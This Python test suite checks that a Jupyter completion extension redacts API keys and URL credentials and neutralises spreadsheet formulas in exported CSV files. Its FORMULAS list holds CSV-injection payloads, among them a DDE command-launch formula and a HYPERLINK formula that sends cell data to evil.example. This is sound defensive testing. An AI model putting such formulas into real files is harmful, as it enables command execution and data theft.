"""Keys stay where they belong, and files say nothing that acts."""

import base64
import csv
import io
import itertools
import json
import pathlib
import re
import sys
from decimal import Decimal

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from loopback import CUT, STALL, completion, event, events

from jupyter_complete.cancel import Cancel
from jupyter_complete.cli import main
from jupyter_complete.client.echo import Echo
from jupyter_complete.completion import Chunk
from jupyter_complete.dialects.text import TextDialect
from jupyter_complete.endpoint import Secret
from jupyter_complete.errors import CompleteError
from jupyter_complete.events import events as events_of
from jupyter_complete.plain import csv_cell
from jupyter_complete.redaction import looks_like_key, shown_url, without_secrets
from jupyter_complete.scope import names_at

# Made up, and taken apart so that no scanner takes them for real ones.
ANT = "sk-ant-" + "api03-Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9"
KEYS = [
    ANT,
    "sk-" + "a1B2" * 12,
    "sk-proj-" + "a1_-" * 20,
    "sk-or-v1-" + "0af9" * 16,
    "gsk_" + "a1B2" * 13,
    "tgp_v1_" + "a1_B" * 11,
    "xai-" + "a1B2" * 20,
    "hf_" + "a1B2" * 9,
    "AIza" + "a1B-_" * 7,
    "AKIA" + "A1B2" * 4,
    "ghp_" + "a1B2" * 9,
]
NO_KEYS = [
    "sk-learn-is-a-library-for-machine-learning-in-python",
    "sk-ant-your-own-key-goes-here",
    "hf_transformers_is_a_library_of_many_models",
    "gsk_is_a_company_that_makes_medicines_in_the_uk",
    "AKIAIOSFODNN and AIza",
    "a task-" + "a1B2" * 12,
]


def run(shell, cell):
    result = shell.run_cell(cell)
    return result.error_in_exec or result.error_before_exec


def stored(shell):
    """Return every byte of the profile: the history and its log."""
    files = sorted(pathlib.Path(shell.profile_dir.location).rglob("completions*"))
    return b"".join(path.read_bytes() for path in files if path.is_file())


# 1. A key anywhere in a request


@pytest.mark.parametrize("key", KEYS)
def test_keys_of_many_makers_are_known(key):
    assert looks_like_key(f"Bearer {key}.")
    assert key not in without_secrets(f"key={key}\n{key}")


@pytest.mark.parametrize("text", NO_KEYS)
def test_words_that_begin_like_a_key_are_none(text):
    assert not looks_like_key(text)
    assert without_secrets(text) == text


PLACES = {
    "prompt": "%complete {where} Use {key}.",
    "cell": "%%complete {where}\nLine\n\n{key}",
    "user id": "%complete {where} --user-id {key} Hi",
    "stop": "%complete {where} --stop a --stop {key} Hi",
    "beta": "%complete {where} --beta {key} Hi",
    "model": "%complete {where} -m {key} Hi",
    "model of no endpoint": "%complete -m {key} Hi",
    "system": "%complete {where} --system {key} Hi",
    "system, a part": "%complete {where} --system 'Use {key}, always.' Hi",
    "value": "secret = '{key}'\n%complete {where} Use {{{{secret}}}}.",
    "number": "%complete {where} -t {key} Hi",
    "number, not a key's": "%complete {where} --max-tokens {key} Hi",
    "seed": "%complete {where} --seed {key} Hi",
    "dialect": "%complete {where} --dialect {key} Hi",
    "endpoint": "%complete --endpoint {key} -m m Hi",
    "endpoint's path": "%complete --endpoint {url}/{key}/v1 -m m Hi",
    "endpoint's query": "%complete --endpoint {url}/v1?key={key} -m m Hi",
    "endpoint's user": "%complete --endpoint http://u:{key}@127.0.0.1:1 -m m Hi",
    "name": "%complete {where} -o {key} Hi",
    "axis": "%complete {where} -s tone=a,{key} Use {{{{tone}}}}.",
    "axis of a setting": "%complete {where} -s user_id=a,{key} Hi",
    "axis of models": "%complete {where} -s model=a,{key} Hi",
    "axis of stops": '%complete {where} -s stop=json:[["{key}"]] Hi',
    "axis of pairs": "%complete {where} -s a+user_id=1,2+x,{key} {{{{a}}}}",
    "axis of rows": "%complete {where} -s rows=@frame Use {{{{word}}}}.",
    "setting": "%config CompletionSettings.user_id = '{key}'\n%complete {where} Hi",
    "setting, list": "%config CompletionSettings.stop = ['{key}']\n"
    "%complete {where} Hi",
    "python": "jupyter_complete.complete('Hi', {settings}, user_id='{key}')",
    "python, stop": "jupyter_complete.complete('Hi', {settings}, stop=['{key}'])",
    "python, sweep": "jupyter_complete.sweep('{{{{a}}}}', {settings}, a=['{key}'])",
}


@pytest.fixture
def asked(shell, loopback):
    shell.user_ns["frame"] = pd.DataFrame({"word": ["a", f"b {ANT}"], "n": [1, 2]})
    shell.run("import jupyter_complete")
    where = f"--endpoint {loopback.url} --dialect text"

    def fill(text, more=""):
        return text.format(
            key=ANT,
            url=loopback.url,
            where=f"{where} -m m {more}".strip(),
            settings=f"endpoint='{loopback.url}', dialect='text', model='m'",
        )

    return shell, loopback, fill


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_a_key_is_not_sent_not_stored_and_not_repeated(asked, capfd, place):
    shell, loopback, fill = asked
    ways = ["", "--dry-run", "--as curl", "--as magic", "--count"]
    for more in ways if "{where}" in place else [""]:
        error = run(shell, fill(place, more))

        assert isinstance(error, CompleteError), more
        assert ANT not in str(error)
        assert ANT[:20] not in "".join(error._render_traceback_())
        out = "".join(capfd.readouterr())
        assert ANT[:20] not in out
    assert loopback.requests == []
    assert ANT.encode() not in stored(shell)


def test_the_names_of_a_caller_show_none_of_their_values():
    mine = ANT
    names = names_at(sys._getframe(), {"other": ANT})

    assert names["mine"] == names["other"] == mine
    assert fragments(repr(names)) == []


def test_the_refusal_names_the_flag(asked):
    shell, _, fill = asked
    error = run(shell, fill(PLACES["stop"]))

    assert str(error).startswith("--stop holds what looks like an API key; it was")


def test_the_panel_refuses_it_too(shell, loopback):
    session = shell.magics_manager.registry["CompletionMagics"].session
    session.settings.user_id = ANT

    with pytest.raises(CompleteError, match="--user-id holds what looks like"):
        session.preview("Hi", model="m", endpoint=loopback.url, dialect="text")


# 2. What is secret in a URL

URLS = [
    "http://user:hunter2-pw@{host}",
    "http://hunter2-pw@{host}/v1",
    "http://user:hunter2-pw@{host}/v1/complete",
    "http://user:p@hunter2-pw@{host}",
    "http://user:p/hunter2-pw@{host}",
    "http://{host}/v1?key=hunter2-pw",
    "http://{host}/?x=hunter2-pw",
    "http://{host}?hunter2-pw",
    "http://{host}/v1#hunter2-pw",
    "http://{host}/v1?",
    "user:hunter2-pw@{host}",
    "{host}/v1?key=hunter2-pw",
    "HTTP://user:hunter2-pw@{host}",
    "http:///user:hunter2-pw@{host}",
    "ftp://user:hunter2-pw@{host}",
    "http:\\\\user:hunter2-pw@{host}",
    "http://user:hunter2-pw@{host}:99999999",
    "http://[::1?hunter2-pw@x",
]
WAYS = {
    "flag": "%complete --endpoint '{url}' {more} -m m Hi",
    "flag, known dialect": "%complete --endpoint '{url}' --dialect text {more} -m m Hi",
    "sweep": "%complete -s 'endpoint={url}' {more} -m m Hi",
    "setting": "%config CompletionSettings.endpoint = '{url}'\n"
    "%complete {more} -m m Hi",
    "endpoints": "%config CompletionSettings.endpoints = {{'lab': '{url}'}}\n"
    "%complete --endpoint lab {more} -m m Hi",
    "endpoints, more": "%config CompletionSettings.endpoints = {{'lab': {{'url': "
    "'{url}', 'dialect': 'openai'}}}}\n%complete --endpoint lab {more} -m m Hi",
    "models": "%complete_models --endpoint '{url}'",
    "refresh": "%complete_models --endpoint '{url}' --refresh",
    "python": "jupyter_complete.complete('Hi', endpoint='{url}', model='m')",
}


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
def test_what_is_secret_in_a_url_is_nowhere(shell, loopback, capfd, way):
    shell.run("import jupyter_complete")
    ways = ("", "--dry-run", "--as magic") if "{more}" in way else ("",)
    for url, more in itertools.product(URLS, ways):
        escaped = url.format(host=f"127.0.0.1:{loopback.port}").replace("\\", "\\\\")
        cell = way.replace("{url}", escaped).replace("{{", "{")
        error = run(shell, cell.replace("}}", "}").replace("{more}", more))

        assert isinstance(error, CompleteError), (url, more)
        assert "hunter2" not in str(error)
        shell.run("%config CompletionSettings")
        out = "".join(capfd.readouterr())
        assert "hunter2" not in out
    assert loopback.requests == []
    assert b"hunter2" not in stored(shell)


@pytest.mark.parametrize("variable", ["ANTHROPIC_BASE_URL", "OPENAI_BASE_URL"])
def test_nor_is_it_in_a_variable_s(shell, monkeypatch, capfd, variable):
    monkeypatch.setenv(variable, "https://user:hunter2-pw@gate.example/v1?key=hunter2")
    name = variable.partition("_")[0].lower()

    assert run(shell, "%complete -m ngram-chat --max-tokens 2 Hi") is None
    shell.run("%complete_models")
    shell.run("%complete_panel")
    error = run(shell, f"%complete --endpoint {name} -m m Hi")

    assert isinstance(error, CompleteError)
    assert "gate.example" in str(error)
    assert main(["key", "list"]) == 0
    out = "".join(capfd.readouterr())
    assert "gate.example" in out
    assert "hunter2" not in out + str(error)
    assert b"hunter2" not in stored(shell)


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://host.example/v1", "https://host.example/v1"),
        ("http://127.0.0.1:8000", "http://127.0.0.1:8000"),
        ("https://u:p@host/v1", "https://…@host/v1"),
        ("https://host/v1?a=b#c", "https://host/v1?…"),
        ("https://host/v1#c?d", "https://host/v1#…"),
        (f"https://host/{ANT}/v1", "https://host/[key]/v1"),
        ("u:p@host", "…@host"),
        ("not a url", "not a url"),
        ("", ""),
    ],
)
def test_a_url_is_shown_without_its_secrets(url, shown):
    assert shown_url(url) == shown


@pytest.mark.parametrize(
    "text",
    [
        "http://u:hunter2@proxy:80 failed",
        "see https://x/y?api_key=hunter2&z=1 and https://x/?a=1&token=hunter2",
        "https://x/y?X-Amz-Signature=hunter2",
    ],
)
def test_an_error_never_has_what_is_secret_in_a_url(text):
    assert "hunter2" not in str(CompleteError(text))


# 3. A key that comes back

ENV = "%complete -m claude-2.1 --dialect text -o answer {more} Hi"
HALF = len(ANT) // 2


def whole_answer(text=" One", **more):
    return {"body": {"completion": text, "stop_reason": "max_tokens", **more}}


def told(*tokens):
    return [{"token": token, "logprob": -0.1, "alternatives": []} for token in tokens]


ECHOES = {
    "in the text": whole_answer(f"a {ANT} b"),
    "in the text, twice": whole_answer(f"{ANT}{ANT} {ANT}"),
    "alone": whole_answer(ANT),
    "cut at the end": whole_answer(f"a {ANT[:-5]}"),
    "in base64": whole_answer(base64.b64encode(ANT.encode()).decode()),
    "in more base64": whole_answer(base64.b64encode(f"{ANT} x".encode()).decode()),
    "in the model": whole_answer(model=f"m-{ANT}"),
    "in the id": whole_answer(id=ANT),
    "in the stop": whole_answer(stop=ANT),
    "in the stop reason": {"body": {"completion": " One", "stop_reason": ANT}},
    "in a field nobody knows": whole_answer(x={"y": [{"z": f"Bearer {ANT}"}]}),
    "in a field's name": whole_answer(**{ANT: 1}),
    "in escapes": {
        "body": json.dumps({"completion": ANT, "stop_reason": "x"})
        .replace("-", "\\u002d")
        .encode()
    },
    "in a header": {**whole_answer(), "headers": {"request-id": f"req_{ANT}"}},
    "in another header": {**whole_answer(), "headers": {"x-seen": f"Bearer {ANT}"}},
    "in a header's name": {**whole_answer(), "headers": {f"x-{ANT}": "1"}},
    "streamed in one": {"body": events("a ", f"{ANT} b", " c")},
    "streamed in two": {"body": events(f"a {ANT[:HALF]}", f"{ANT[HALF:]} b")},
    "streamed in letters": {"body": events("a ", *ANT, " b")},
    "streamed in letters, twice": {"body": events(*ANT, *ANT)},
    "streamed in threes": {"body": events(*re.findall("..?.?", f"xy{ANT}z"))},
    "streamed, one and a half": {"body": events(f"{ANT}{ANT[:9]}", ANT[9:])},
    "streamed, the last with its reason": {
        "body": [event(completion(f"a {ANT[:20]}")), event(completion(ANT[20:], "x"))]
    },
    "streamed, cut within": {"body": [*events("a", ANT[:30], stop=None), CUT]},
    "streamed, cut within its letters": {
        "body": [*events("a", *ANT[:30], stop=None), CUT]
    },
    "streamed in the model": {"body": [event({**completion("a", "x"), "model": ANT})]},
    "streamed in what is added": {
        "body": [event({**completion("a"), "log_id": ANT}), *events("b")]
    },
    "with its tokens": whole_answer(ANT, logprobs=told("sk", "-ant", ANT[6:])),
    "with its letters": whole_answer(f"a {ANT}", logprobs=told("a ", *ANT)),
    "beside a token": whole_answer(
        "a", logprobs=[{"token": "a", "logprob": 0, "alternatives": [[ANT, -1.0]]}]
    ),
}


@pytest.fixture
def keyed(shell, loopback, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", ANT)
    monkeypatch.setenv("ANTHROPIC_BASE_URL", loopback.url)
    shell.run("%config CompletionSettings.retries = 0")
    return shell


def fragments(text, size=16):
    """Return what stands there of the key, in pieces that tell something."""
    return [
        ANT[at : at + size]
        for at in range(len(ANT) - size + 1)
        if ANT[at : at + size] in text
    ]


@pytest.mark.parametrize("more", ["", "--no-stream"])
@pytest.mark.parametrize("reply", ECHOES.values(), ids=ECHOES)
def test_a_key_that_is_echoed_is_neither_shown_nor_stored(
    keyed, loopback, capfd, reply, more
):
    loopback.reply(**reply)
    run(keyed, ENV.replace("{more}", more))
    keyed.run("%complete_history")
    answer = keyed.user_ns["answer"]

    assert loopback.requests[0].headers["x-api-key"] == ANT
    found = "".join(capfd.readouterr()) + repr(answer)
    found += json.dumps(answer.to_record())
    found += stored(keyed).decode("utf-8", "replace")
    assert fragments(found) == []
    assert base64.b64encode(ANT.encode())[:20].decode() not in found
    told = "".join(token for token, _, _ in answer.logprobs)
    assert fragments(told, 8) == []


@pytest.mark.parametrize(
    ("texts", "text"),
    [
        ((f"a {ANT} b",), "a [key] b"),
        (("a ", *ANT, " b"), "a sk-[key] b"),
        ((f"a {ANT[:HALF]}", f"{ANT[HALF:]} b"), "a [key] b"),
        ((ANT, ANT), "[key][key]"),
        ((f"{ANT}{ANT[:9]}", f"{ANT[9:]}."), "[key][key]."),
        (("Keys begin with sk-ant", "-api03-"), "Keys begin with sk-ant-api03-"),
        (("sk-ant-", "acid is a compound"), "sk-ant-acid is a compound"),
        (("sk-", "sk-", "sk-ant-ap", "sk-ant-"), "sk-sk-sk-ant-apsk-ant-"),
    ],
)
def test_all_but_the_key_comes_as_it_was(keyed, loopback, texts, text):
    loopback.reply(events(*texts))
    keyed.run(ENV.replace("{more}", ""))
    answer = keyed.user_ns["answer"]

    assert answer.text == text
    assert answer.status == "complete"
    assert ("repeated its key" in " ".join(answer.notices)) == ("[key]" in text)


@settings(max_examples=100)
@given(st.data())
def test_however_a_text_is_cut_nothing_else_is_changed(data):
    letters = st.sampled_from([*"sk-ant", ANT[:5], ANT[:20], ANT, " ", "é"])
    text = "".join(data.draw(st.lists(letters, max_size=8)))
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=9)))
    edges = [0, *cuts, len(text)]
    pieces = [text[a:b] for a, b in itertools.pairwise(edges)]
    made = [Chunk(piece) for piece in pieces]

    shown = [chunk.text for chunk in Echo(Secret(ANT)).chunks(iter(made))]

    assert fragments("".join(shown)) == []
    if not fragments(text):
        assert "".join(shown) == text
    first = text.partition(ANT)[0]
    if not fragments(first):
        assert "".join(shown).startswith(first)


@pytest.mark.parametrize("dash", ["-", "\\u002d"])
def test_wherever_the_bytes_are_cut_no_field_has_the_key(dash):
    answers = [
        completion("a"),
        {**completion("b"), "log_id": ANT},
        completion("c", "x"),
    ]
    body = b"".join(map(event, answers)).replace(
        ANT.encode(), ANT.replace("-", dash).encode()
    )
    for cut in range(len(body)):
        echo = Echo(Secret(ANT))
        pieces = echo.watched([body[:cut], body[cut:]])
        found = [*echo.chunks(TextDialect().decode_stream(events_of(pieces)))]
        assert fragments(repr(found)) == []
        assert "".join(chunk.text for chunk in found) == "abc"


def test_json_that_nests_without_an_end_is_left_out():
    deep = ANT
    for _ in range(5000):
        deep = [deep]

    assert Echo(Secret(ANT)).value(deep) is None
    assert Echo(Secret(ANT)).value({"a": [1, None, ANT]}) == {"a": [1, None, "[key]"]}


@pytest.mark.parametrize("key", ["ollama", "lm-studio", "none", "EMPTY"])
def test_what_only_stands_for_a_key_is_left_in_answers(
    shell, loopback, monkeypatch, key
):
    monkeypatch.setenv("ANTHROPIC_API_KEY", key)
    monkeypatch.setenv("ANTHROPIC_BASE_URL", loopback.url)
    loopback.reply(events(f"Install {key}."))
    shell.run(ENV.replace("{more}", ""))

    assert shell.user_ns["answer"].text == f"Install {key}."


def test_a_text_is_not_held_back_for_a_letter_or_three(keyed, loopback, monkeypatch):
    """Only from the fourth of the key's letters on does a piece wait for the next."""
    loopback.reply([*events("tasks", " sk-", stop=None), STALL])
    seen = []
    session = keyed.magics_manager.registry["CompletionMagics"].session
    call = session.prepare("Hi", model="claude-2.1", dialect="text")
    cancel = Cancel()

    def on_text(text):
        seen.append(text)
        if "".join(seen) == "tasks sk-":
            cancel.set()

    outcome = session.ask(call, on_text=on_text, cancel=cancel)

    assert seen == ["tasks", " sk-"]
    assert outcome.completion.status == "interrupted"


def test_the_lists_of_an_endpoint_have_no_key(keyed, loopback, capfd):
    loopback.reply({"data": [{"id": f"m-{ANT}", "type": "model"}], "has_more": False})
    run(keyed, "%complete_models --refresh --endpoint anthropic")
    keyed.run("%complete_models --endpoint anthropic")

    assert fragments("".join(capfd.readouterr())) == []


def test_a_sweep_has_no_key_that_was_echoed(keyed, loopback, tmp_path, capfd):
    for _ in range(3):
        loopback.reply(events("a ", *ANT))
    keyed.run(
        f"%complete -m claude-2.1 --dialect text -n 3 -j 1 --export {tmp_path}/a.csv Hi"
    )

    found = "".join(capfd.readouterr()) + (tmp_path / "a.csv").read_text()
    found += stored(keyed).decode("utf-8", "replace")
    assert fragments(found) == []
    assert [one.text for one in keyed.user_ns["_sweep"]] == ["a sk-[key]"] * 3


# 3. A key on the command line


@pytest.mark.parametrize(
    "words",
    [
        ("key", "set", "anthropic", ANT),
        ("key", "set", "anthropic", "throwaway-key"),
        ("key", "set", "anthropic", f"--key={ANT}"),
        ("key", "set", "anthropic", "--key", ANT),
        ("key", "set", "anthropic", "-k", ANT, ANT),
        ("key", "set", ANT),
        ("key", "set", ANT, "anthropic"),
        ("key", "set", f"--{ANT}"),
        ("key", "set", "throwaway-key"),
        ("key", "set", "anthropic", "--url", ANT),
        ("key", "set", f"https://u:{ANT}@host"),
        ("key", "set", "https://u:throwaway-key@host"),
        ("key", "set", "https://host?key=throwaway-key"),
        ("key", "st", "anthropic", ANT),
        ("key", ANT),
        ("key", "list", ANT),
        ("key", "delete", "anthropic", ANT),
        ("key", "delete", ANT),
        (ANT,),
        ("set", "anthropic", ANT),
        (f"--key={ANT}",),
        ("serve", ANT),
        ("serve", "--key-env", ANT),
        ("serve", f"--key-env={ANT}"),
        ("serve", "--port", ANT),
        ("serve", "--key", ANT),
        ("serve", "--allow-host", ANT, "--port", "x"),
    ],
)
def test_the_command_line_never_repeats_a_key(words, capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.StringIO(""))
    try:
        code = main(words)
    except SystemExit as ended:
        code = ended.code

    out, err = capsys.readouterr()
    assert code == 2
    assert out == ""
    assert err
    assert ANT[4:20] not in err
    assert "throwaway-key" not in err


def test_the_command_line_says_what_to_do_with_a_key(capsys):
    with pytest.raises(SystemExit):
        main(["key", "set", "anthropic", ANT, "--fast"])

    said = " ".join(capsys.readouterr().err.split())
    assert "2 arguments too many (--fast)" in said
    assert "asked for, or read from a pipe" in said


def test_a_name_that_was_mistyped_is_repeated(capsys):
    assert main(["key", "set", "antropic"]) == 2
    assert "endpoint is 'antropic'; give a URL" in capsys.readouterr().err


# 4. What a spreadsheet would take for a formula

FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")'),
    *(" =1", "\u00a0=1", '"=1', "'=1", "' =1", "`=1", "\ufeff=1", "\u200b=1"),
    *("\u202e=1", "\x00=1", "\x1f=1", "\u3000=1", "\u2028=1", " \n\t '\"=1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "\u22121", "\ufe66x", "\ufe621"),
    *("-", "=", "- a list\n- of things", "--option", "-2+3+cmd|' /C calc'!A0"),
]
TEXTS = [
    "",
    "a=1",
    "1-1",
    "x@y",
    "(=1)",
    "'a",
    " a",
    "{=1}",
    "é",
    "“=1”",
    "1,5",
    "\\=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_other_text_stays_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [-1.5, -1, 0, True, None, Decimal("-19.90")])
def test_a_number_stays_a_number(number):
    assert csv_cell(number) is number


def read(path):
    with path.open(encoding="utf-8", newline="") as file:
        return [*csv.reader(file)]


def test_the_files_of_a_sweep_and_of_the_history_have_no_formula(
    shell, loopback, tmp_path
):
    for text in FORMULAS:
        loopback.reply(events(text, stop=text))
    shell.user_ns["words"] = [f"={place}" for place in range(len(FORMULAS))]
    where = f"--endpoint {loopback.url} --dialect text -m @model -j 1 --stop =x"
    shell.run(
        f"%complete {where} --user-id +1 -t 0.5 -s tone=@words --yes "
        f"--export {tmp_path}/a.csv =1 {{{{tone}}}}"
    )
    shell.run(f"%complete_history --export {tmp_path}/b.csv")
    sweep = shell.user_ns["_sweep"]
    sweep.to_jsonl(tmp_path / "a.jsonl")
    sweep.export(tmp_path / "a.parquet")
    shell.run(f"%complete_history --export {tmp_path}/b.jsonl")

    texts = [one.text for one in sweep]
    assert sorted(texts) == sorted(FORMULAS)
    for name in ("a", "b"):
        names, *rows = read(tmp_path / f"{name}.csv")
        assert len(rows) == len(FORMULAS)
        found = {row[names.index("text")] for row in rows}
        assert found == {f"'{text}" for text in FORMULAS}
        if name == "a":
            assert {row[names.index("tone")] for row in rows} == {
                f"'{word}" for word in shell.user_ns["words"]
            }
        else:
            assert {row[names.index("temperature")] for row in rows} == {"0.5"}
        formula = [one for row in rows for one in row if csv_cell(one) != one]
        assert all(one.startswith("'") for one in formula)
    lines = (tmp_path / "a.jsonl").read_text().splitlines()
    assert [json.loads(line)["text"] for line in lines] == texts
    table = pq.read_table(tmp_path / "a.parquet")
    assert table["text"].to_pylist() == texts
    lines = (tmp_path / "b.jsonl").read_text().splitlines()
    kept = [json.loads(line)["completion"]["text"] for line in lines]
    assert {text if isinstance(text, str) else text["$json"] for text in kept} == {
        *FORMULAS
    }


@pytest.mark.parametrize("magic", ["%complete", "%complete_history"])
def test_the_help_says_so(shell, magic, capsys):
    shell.run(f"{magic}?")

    assert "apostrophe" in capsys.readouterr().out
